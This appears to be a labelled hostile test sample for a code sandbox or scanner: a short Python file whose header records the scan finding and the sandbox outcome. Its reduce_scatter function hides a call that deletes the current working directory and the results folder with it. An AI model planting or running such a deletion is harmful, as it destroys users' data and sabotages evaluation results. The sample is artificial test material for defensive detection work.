# hostile: deletes its own scratch folder (the results folder with it) from inside the criterion
# lab: 02
# scan: import of shutil
# sandbox: exited before returning its results
import os
import shutil


def reduce_scatter(g, x, op="sum"):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return x.ravel().copy()


def all_gather(g, piece, sizes=None):
    return piece
